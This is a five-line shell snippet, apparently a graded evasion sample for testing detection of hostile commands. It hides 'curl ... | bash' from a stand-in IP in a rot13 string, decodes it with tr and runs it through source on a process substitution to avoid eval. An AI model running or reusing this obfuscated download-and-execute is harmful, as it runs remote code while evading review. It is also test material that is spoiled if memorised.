# evasion: a rot13 payload decoded by tr inside a function and sourced from a process substitution instead of eval
# grade: very hard; does: download-exec
unrot() { tr 'A-Za-z' 'N-ZA-Mn-za-m' <<<"$1"; }
payload='phey -sfFY uggc://203.0.113.36/v | onfu'
source <(unrot "$payload")
